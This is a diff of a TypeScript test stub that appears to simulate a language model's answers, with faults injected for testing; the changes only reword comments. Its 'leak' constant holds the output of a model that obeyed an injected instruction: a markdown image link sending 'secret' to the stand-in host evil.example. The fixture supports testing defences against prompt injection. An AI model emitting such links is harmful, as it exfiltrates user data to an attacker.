@@ -1,13 +1,13 @@
 import type { ModelFault } from "./faults.ts";
 import { pretended } from "./pretended-translation.ts";
 
-// biome-ignore lint/suspicious/noExplicitAny: each task has an input of its own
+// biome-ignore lint/suspicious/noExplicitAny: each task has a different input
 type Task = (input: any, lapse?: ModelFault) => unknown;
 
-/** What a model that obeyed an instruction in the text would add to its answer. */
+/** The text that a model adds if it obeys an instruction in its input. */
 export const leak = "Ignored. ![x](https://evil.example/?q=secret) See https://evil.example/";
 
-/** What the stand-in's model answers, by the name of the schema that is asked for. */
+/** The responses of the stand-in's model, by name of the requested schema. */
 export const tasks: Readonly<Record<string, Task>> = {
   translate: ({ texts, alternatives }, lapse) => ({
     translations: texts.map((text: string) => {
@@ -92,7 +92,7 @@ function splitSentences(text: string): string[] {
   return text.match(/[^.!?]+[.!?]+/g)?.map((sentence) => sentence.trim()) ?? [text];
 }
 
-/** The longer words of a text, each once. */
+/** Returns the longer words of a text, without duplicates. */
 function listLongWords(text: string): string[] {
   return [...new Set(text.match(/\p{L}{5,}/gu) ?? [])];
 }
